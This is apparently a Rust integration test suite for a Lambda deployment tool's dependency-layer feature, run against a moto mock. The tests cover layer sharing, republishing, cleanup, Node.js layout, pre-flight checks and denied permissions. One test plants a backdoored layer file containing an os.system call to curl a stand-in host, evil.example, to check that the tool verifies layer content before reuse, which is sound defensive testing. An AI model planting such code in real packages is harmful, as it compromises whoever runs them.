//! Dependencies as a content-addressed layer (`[build] dependencies`):
//! published once per tree and shared by functions and stages, code-only
//! edits upload only code, requirement changes publish and repoint, and
//! cleanup of versions nothing uses. Against moto, read back with the SDK.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly by design

use crate::common::*;
use serde_json::Value;

const APP: &str =
    "import six\n\ndef lambda_handler(event, context):\n    return {\"six\": six.__name__}\n";

fn two_functions(project_name: &str, extra: &str) -> String {
    format!(
        "[project]\nname = \"{project_name}\"\n\n[build]\ndependencies = \"layer\"\n{extra}\n[functions.api]\nruntime = \"python3.12\"\nhandler = \"app.lambda_handler\"\n\n[functions.worker]\nruntime = \"python3.12\"\nhandler = \"app.lambda_handler\"\n"
    )
}

fn deploy(dir: &std::path::Path, extra: &[&str]) -> (Value, Vec<String>) {
    let out = lam(dir)
        .env("LAM_PYTHON", test_python())
        .args(["deploy", "-v", "--output", "json"])
        .args(extra)
        .timeout(std::time::Duration::from_secs(300))
        .assert()
        .success();
    let out = out.get_output();
    (
        serde_json::from_slice(&out.stdout).expect("one JSON document"),
        calls(&out.stderr),
    )
}

fn layers_of(function: &str) -> Vec<String> {
    function_configuration(function)
        .layers()
        .iter()
        .map(|l| l.arn().unwrap().to_string())
        .collect()
}

fn count(calls: &[String], op: &str) -> usize {
    calls.iter().filter(|c| c.as_str() == op).count()
}

fn zip_names(bytes: &[u8]) -> Vec<String> {
    let archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    archive
        .file_names()
        .map(|n| n.unwrap().into_owned())
        .collect()
}

#[test]
fn one_layer_per_tree_shared_by_functions_and_stages_and_repointed_on_change() {
    let name = unique("layers");
    let dir = project(
        &two_functions(&name, "\n[stages.dev]\n[stages.prod]\n"),
        &[("app.py", APP), ("requirements.txt", "six==1.16.0\n")],
    );
    let (doc, first) = deploy(dir.path(), &[]);
    // One tree, one layer, published once for both functions.
    assert_eq!(count(&first, "Lambda.PublishLayerVersion"), 1, "{first:?}");
    let layer = &doc["layers"][0];
    assert_eq!(layer["published"], true);
    let arn = layer["arn"].as_str().unwrap().to_string();
    let layer_name = layer["name"].as_str().unwrap();
    assert!(
        layer_name.starts_with(&format!("lam-{name}-deps-")),
        "{layer_name}"
    );
    for f in doc["functions"].as_array().unwrap() {
        assert_eq!(layers_of(f["name"].as_str().unwrap()), vec![arn.clone()]);
    }
    // The request as Lambda's model has it: the runtime and architecture
    // the tree was installed for, the hash lam finds it again by.
    let published = sent("lambda", "PublishLayerVersion", |i| {
        i["LayerName"] == layer_name
    });
    assert_eq!(published.len(), 1);
    assert_eq!(
        published[0]["CompatibleRuntimes"],
        serde_json::json!(["python3.12"])
    );
    assert_eq!(
        published[0]["CompatibleArchitectures"],
        serde_json::json!(["x86_64"])
    );
    // The layer holds the tree under python/; the code zip only the code.
    // (moto has no GetLayerVersionByArn: by name and number.)
    let number: i64 = arn.rsplit(':').next().unwrap().parse().unwrap();
    let version = block_on(
        lambda_client()
            .get_layer_version()
            .layer_name(layer_name)
            .version_number(number)
            .send(),
    )
    .unwrap();
    assert_eq!(
        version.content().unwrap().code_sha256().unwrap(),
        layer["sha256"].as_str().unwrap()
    );
    let code = std::fs::read(dir.path().join(".lam/build/api.zip")).unwrap();
    let names = zip_names(&code);
    assert!(names.contains(&"app.py".to_string()), "{names:?}");
    assert!(!names.iter().any(|n| n.starts_with("six")), "{names:?}");
    let built = lam(dir.path())
        .env("LAM_PYTHON", test_python())
        .args(["build", "--function", "api", "--output", "json"])
        .assert()
        .success();
    let built: Value = serde_json::from_slice(&built.get_output().stdout).unwrap();
    let layer_path = built["layer"]["path"].as_str().unwrap();
    let names = zip_names(&std::fs::read(layer_path).unwrap());
    assert!(names.contains(&"python/six.py".to_string()), "{names:?}");
    // The two zips together run: extracted where Lambda puts them (the code
    // in /var/task, layers in /opt) with /opt/python on the path, as the
    // Lambda guide's "Layer paths for each Lambda runtime" gives it, the
    // handler imports six from the layer.
    let root = tempfile::tempdir().unwrap();
    let run = std::process::Command::new(test_python())
        .args([
            "-c",
            "import sys, zipfile
zipfile.ZipFile(sys.argv[1]).extractall(sys.argv[3] + '/task')
zipfile.ZipFile(sys.argv[2]).extractall(sys.argv[3] + '/opt')
sys.path[:0] = [sys.argv[3] + '/task', sys.argv[3] + '/opt/python']
import app
print(app.lambda_handler({}, None)['six'], app.six.__file__)",
        ])
        .arg(dir.path().join(".lam/build/api.zip"))
        .arg(layer_path)
        .arg(root.path())
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&run.stdout);
    assert!(
        said.starts_with("six ") && said.trim_end().ends_with("/opt/python/six.py"),
        "{said}{}",
        String::from_utf8_lossy(&run.stderr)
    );

    // A handler edit: code only, no layer call but the lookup.
    std::fs::write(
        dir.path().join("app.py"),
        APP.replace("six.__name__", "'edited'"),
    )
    .unwrap();
    let (doc, edit) = deploy(dir.path(), &[]);
    assert_eq!(count(&edit, "Lambda.PublishLayerVersion"), 0, "{edit:?}");
    assert_eq!(count(&edit, "Lambda.UpdateFunctionCode"), 2, "{edit:?}");
    assert_eq!(
        count(&edit, "Lambda.UpdateFunctionConfiguration"),
        0,
        "{edit:?}"
    );
    assert_eq!(doc["layers"][0]["published"], false);
    for f in doc["functions"].as_array().unwrap() {
        assert!(f["code_size"].as_u64().unwrap() < 2_000, "{f}");
    }

    // Another stage with the same tree shares the layer.
    let (doc, staged) = deploy(dir.path(), &["--stage", "prod"]);
    assert_eq!(
        count(&staged, "Lambda.PublishLayerVersion"),
        0,
        "{staged:?}"
    );
    for f in doc["functions"].as_array().unwrap() {
        assert_eq!(layers_of(f["name"].as_str().unwrap()), vec![arn.clone()]);
    }

    // A requirement change: a new layer, and the function points at it.
    std::fs::write(dir.path().join("requirements.txt"), "six==1.17.0\n").unwrap();
    let (doc, changed) = deploy(dir.path(), &[]);
    assert_eq!(
        count(&changed, "Lambda.PublishLayerVersion"),
        1,
        "{changed:?}"
    );
    let new_arn = doc["layers"][0]["arn"].as_str().unwrap().to_string();
    assert_ne!(new_arn, arn);
    for f in doc["functions"].as_array().unwrap() {
        assert_eq!(
            layers_of(f["name"].as_str().unwrap()),
            vec![new_arn.clone()]
        );
        assert!(
            f["configuration_changed"]
                .as_array()
                .unwrap()
                .contains(&"layers".into()),
            "{f}"
        );
    }
    // The rerun reads and changes nothing.
    let (_, rerun) = deploy(dir.path(), &[]);
    assert!(mutating(&rerun).is_empty(), "{rerun:?}");

    // Cleanup deletes only versions no function uses: prod still runs the
    // first tree, so --keep-versions keeps it.
    let versions = |n: &str| -> Vec<String> {
        block_on(lambda_client().list_layer_versions().layer_name(n).send())
            .map(|o| {
                o.layer_versions()
                    .iter()
                    .map(|v| v.layer_version_arn().unwrap().to_string())
                    .collect()
            })
            .unwrap_or_default()
    };
    let new_name = doc["layers"][0]["name"].as_str().unwrap().to_string();
    // A third tree for dev: the second is now used by no function.
    std::fs::write(dir.path().join("requirements.txt"), "six==1.15.0\n").unwrap();
    let (third, _) = deploy(dir.path(), &[]);
    let third_name = third["layers"][0]["name"].as_str().unwrap().to_string();
    let third_arn = third["layers"][0]["arn"].as_str().unwrap().to_string();
    assert_eq!(
        versions(&new_name),
        vec![new_arn.clone()],
        "not cleaned without asking"
    );
    // Within the grace period (15 minutes unless told), a version another
    // deploy may be about to attach is kept.
    lam(dir.path())
        .env("LAM_PYTHON", test_python())
        .env_remove("LAM_LAYER_GRACE_SECONDS")
        .args(["deploy", "--keep-versions", "1"])
        .assert()
        .success()
        // Kept, and said: with the version and when it goes.
        .stderr(predicates::str::contains(format!(
            "kept 1 unused dependency layer version published in the last 15 min (another deploy may be attaching it): {new_arn}"
        )));
    assert_eq!(
        versions(&new_name),
        vec![new_arn.clone()],
        "a layer version published moments ago is kept"
    );
    deploy(dir.path(), &["--keep-versions", "1"]);
    assert!(
        versions(&new_name).is_empty(),
        "the unused second tree's layer is deleted"
    );
    assert_eq!(versions(layer_name), vec![arn.clone()], "prod's is kept");
    assert_eq!(
        versions(&third_name),
        vec![third_arn.clone()],
        "dev's is kept"
    );
    lam(dir.path())
        .args(["destroy", "--stage", "prod", "--yes"])
        .assert()
        .success()
        .stderr(predicates::str::contains(
            "deleted 1 dependency layer version no function uses",
        ));
    assert!(versions(layer_name).is_empty(), "prod's layer is gone");
    assert_eq!(
        versions(&third_name),
        vec![third_arn.clone()],
        "dev's stays"
    );
    lam(dir.path())
        .args(["destroy", "--yes"])
        .assert()
        .success();
    assert!(versions(&third_name).is_empty());
}

#[test]
fn own_layers_stay_beside_lams_and_the_limit_is_checked_first() {
    let name = unique("ownlayers");
    let own = block_on(
        lambda_client()
            .publish_layer_version()
            .layer_name(format!("{name}-own"))
            .content(
                aws_sdk_lambda::types::LayerVersionContentInput::builder()
                    .zip_file(aws_sdk_lambda::primitives::Blob::new(
                        std::fs::read(build_zip_of(&[("python/own.py", "X = 1\n")])).unwrap(),
                    ))
                    .build(),
            )
            .send(),
    )
    .unwrap()
    .layer_version_arn()
    .unwrap()
    .to_string();
    let extra = format!("layers = [\"{own}\"]\n");
    let body = format!(
        "[project]\nname = \"{name}\"\n\n[build]\ndependencies = \"layer\"\n\n[function]\nruntime = \"python3.12\"\nhandler = \"app.lambda_handler\"\n{extra}"
    );
    let dir = project(
        &body,
        &[("app.py", APP), ("requirements.txt", "six==1.16.0\n")],
    );
    let (doc, _) = deploy(dir.path(), &[]);
    let lams = doc["layers"][0]["arn"].as_str().unwrap().to_string();
    let function = doc["functions"][0]["name"].as_str().unwrap();
    // lam's last: requirements.txt wins over a shared layer's copies.
    assert_eq!(layers_of(function), [own.clone(), lams]);

    // Five of its own leave no room for lam's: refused before any call.
    let five = format!("layers = [{}]\n", vec![format!("\"{own}\""); 5].join(", "));
    std::fs::write(dir.path().join("lam.toml"), body.replace(&extra, &five)).unwrap();
    let out = lam(dir.path())
        .env("LAM_PYTHON", test_python())
        .args(["deploy", "-v"])
        .assert()
        .code(3);
    let stderr = String::from_utf8_lossy(&out.get_output().stderr);
    assert!(
        stderr.contains("lists 5 layers and its dependencies need one more"),
        "{stderr}"
    );
    assert!(calls(&out.get_output().stderr).is_empty(), "{stderr}");
}

/// A zip holding `files`, written to a temporary path.
fn build_zip_of(files: &[(&str, &str)]) -> std::path::PathBuf {
    use std::io::Write;
    let path = std::env::temp_dir().join(format!("{}.zip", unique("layerzip")));
    let mut w = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
    for (name, body) in files {
        w.start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(body.as_bytes()).unwrap();
    }
    w.finish().unwrap();
    path
}

#[test]
fn node_dependencies_go_to_nodejs_node_modules_in_the_layer() {
    // Lambda resolves a layer's packages from /opt/nodejs/node_modules, ES
    // module imports included from Node.js 18 on (AWS knowledge center,
    // "lambda-import-module-error-nodejs").
    let name = unique("nodelayer");
    let body = format!(
        "[project]\nname = \"{name}\"\n\n[build]\ndependencies = \"layer\"\n\n[function]\nruntime = \"nodejs22.x\"\nhandler = \"index.handler\"\n"
    );
    let package = r#"{"name": "n", "version": "1.0.0", "type": "module", "dependencies": {"is-number": "7.0.0"}}"#;
    let dir = project(
        &body,
        &[
            (
                "index.mjs",
                "import isNumber from 'is-number';\nexport const handler = async () => ({ five: isNumber(5) });\n",
            ),
            ("package.json", package),
        ],
    );
    let built = lam(dir.path())
        .args(["build", "--output", "json"])
        .timeout(std::time::Duration::from_secs(300))
        .assert()
        .success();
    let b: Value = serde_json::from_slice(&built.get_output().stdout).unwrap();
    let layer_names = zip_names(&std::fs::read(b["layer"]["path"].as_str().unwrap()).unwrap());
    assert!(
        layer_names.contains(&"nodejs/node_modules/is-number/index.js".to_string()),
        "{layer_names:?}"
    );
    let code_names = zip_names(&std::fs::read(b["path"].as_str().unwrap()).unwrap());
    assert!(
        code_names.contains(&"index.mjs".to_string()),
        "{code_names:?}"
    );
    assert!(
        !code_names.iter().any(|n| n.contains("node_modules")),
        "{code_names:?}"
    );

    let (doc, _) = deploy(dir.path(), &[]);
    let layer = &doc["layers"][0];
    let published = sent("lambda", "PublishLayerVersion", |i| {
        i["LayerName"] == layer["name"]
    });
    assert_eq!(published.len(), 1);
    assert_eq!(
        published[0]["CompatibleRuntimes"],
        serde_json::json!(["nodejs22.x"])
    );
    let function = doc["functions"][0]["name"].as_str().unwrap();
    assert_eq!(
        layers_of(function),
        vec![layer["arn"].as_str().unwrap().to_string()]
    );
}

/// Anyone who may publish to the layer can write its description: a newer
/// version that claims the tree's hash but holds other content is never
/// attached; lam publishes the real tree instead.
#[test]
fn a_layer_version_is_reused_by_its_content_not_its_description() {
    let name = unique("lying");
    let dir = project(
        &two_functions(&name, ""),
        &[("app.py", APP), ("requirements.txt", "six==1.16.0\n")],
    );
    let (doc, _) = deploy(dir.path(), &[]);
    let layer = &doc["layers"][0];
    let layer_name = layer["name"].as_str().unwrap().to_string();
    let sha = layer["sha256"].as_str().unwrap().to_string();
    // A version with the same description and a backdoored tree.
    let planted = block_on(
        lambda_client()
            .publish_layer_version()
            .layer_name(&layer_name)
            .description(format!("lam dependencies, sha256 {sha}"))
            .content(
                aws_sdk_lambda::types::LayerVersionContentInput::builder()
                    .zip_file(aws_sdk_lambda::primitives::Blob::new(zip_of(
                        "python/six.py",
                        b"import os; os.system('curl evil.example')\n",
                    )))
                    .build(),
            )
            .send(),
    )
    .unwrap();
    let planted_arn = planted.layer_version_arn().unwrap().to_string();
    // A requirement change and back: lam looks the tree up again.
    std::fs::write(dir.path().join("app.py"), format!("{APP}\n# edited\n")).unwrap();
    let (doc, calls) = deploy(dir.path(), &[]);
    let arn = doc["layers"][0]["arn"].as_str().unwrap();
    assert_ne!(arn, planted_arn, "the planted version was attached");
    assert!(
        calls.iter().any(|c| c == "Lambda.GetLayerVersion"),
        "{calls:?}"
    );
    for f in doc["functions"].as_array().unwrap() {
        assert!(!layers_of(f["name"].as_str().unwrap()).contains(&planted_arn));
    }
}

/// "Every check before the first write": publishing a dependency layer is
/// a write, so a deploy whose checks fail (a secret or a trigger's bucket
/// that does not exist) publishes no layer. Once they pass, the layer is
/// published and the function runs with it.
#[test]
fn a_deploy_whose_checks_fail_publishes_no_layer() {
    let name = unique("layer-checks");
    let secret = format!("{name}/DB_PASSWORD");
    let bucket = name.to_lowercase();
    let dir = project(
        &format!(
            "[project]\nname = \"{name}\"\n\n[build]\ndependencies = \"layer\"\n\n[function]\nruntime = \"python3.12\"\nhandler = \"app.lambda_handler\"\n\n[function.secrets]\nDB_PASSWORD = \"{secret}\"\n\n[[function.triggers]]\ntype = \"s3\"\nbucket = \"{bucket}\"\n"
        ),
        &[("app.py", APP), ("requirements.txt", "six==1.16.0\n")],
    );
    let refused = |expected: &str| {
        let out = lam(dir.path())
            .env("LAM_PYTHON", test_python())
            .args(["deploy", "-v"])
            .timeout(std::time::Duration::from_secs(300))
            .assert()
            .code(3);
        let stderr = String::from_utf8_lossy(&out.get_output().stderr).into_owned();
        assert!(stderr.contains(expected), "{stderr}");
        let made = calls(&out.get_output().stderr);
        assert!(mutating(&made).is_empty(), "changed something: {made:?}");
        let listed = block_on(lambda_client().list_layers().send()).unwrap();
        assert!(
            !listed.layers().iter().any(|l| l
                .layer_name()
                .unwrap_or_default()
                .starts_with(&format!("lam-{name}"))),
            "a layer was published: {listed:?}"
        );
    };
    refused(&format!("secret DB_PASSWORD (\"{secret}\") does not exist"));
    let sm = aws_sdk_secretsmanager::Client::new(&sdk_config());
    block_on(
        sm.create_secret()
            .name(&secret)
            .secret_string("s3cret")
            .send(),
    )
    .unwrap();
    refused(&format!(
        "the bucket {bucket} of an s3 trigger does not exist"
    ));

    // The checks pass: published, and the function runs with that version.
    block_on(s3().create_bucket().bucket(&bucket).send()).unwrap();
    let (doc, made) = deploy(dir.path(), &[]);
    assert_eq!(count(&made, "Lambda.PublishLayerVersion"), 1, "{made:?}");
    let arn = doc["layers"][0]["arn"].as_str().unwrap().to_string();
    let function = doc["functions"][0]["name"].as_str().unwrap();
    assert_eq!(layers_of(function), vec![arn]);
}

/// Publishing the dependency layer is part of the permission pre-flight:
/// a caller who may not publish it is refused before any change, with the
/// layer's ARN, rather than after the checks with nothing done right.
#[test]
fn a_caller_who_may_not_publish_the_layer_is_refused_before_any_change() {
    let name = unique("layer-perm");
    let dir = project(
        &format!(
            "[project]\nname = \"{name}\"\n\n[build]\ndependencies = \"layer\"\n\n[function]\nruntime = \"python3.12\"\nhandler = \"app.lambda_handler\"\n"
        ),
        &[("app.py", APP), ("requirements.txt", "six==1.16.0\n")],
    );
    let (key_id, secret) = iam_user(
        "layer-user",
        serde_json::json!([
            {"Effect": "Allow", "Action": ["lambda:*", "iam:*", "sts:GetCallerIdentity", "ssm:*"],
             "Resource": "*"},
            {"Effect": "Deny", "Action": "lambda:PublishLayerVersion", "Resource": "*"}]),
    );
    let out = lam(dir.path())
        .env("AWS_ACCESS_KEY_ID", &key_id)
        .env("AWS_SECRET_ACCESS_KEY", &secret)
        .env("LAM_PYTHON", test_python())
        .args(["deploy", "-v"])
        .timeout(std::time::Duration::from_secs(300))
        .assert()
        .code(4);
    let stderr = String::from_utf8_lossy(&out.get_output().stderr).into_owned();
    assert!(
        stderr.contains(&format!(
            "the credentials may not call lambda:PublishLayerVersion on arn:aws:lambda:us-east-1:123456789012:layer:lam-{name}"
        )) && stderr.contains("(an explicit Deny)"),
        "{stderr}"
    );
    let made = calls(&out.get_output().stderr);
    assert!(mutating(&made).is_empty(), "changed something: {made:?}");
}
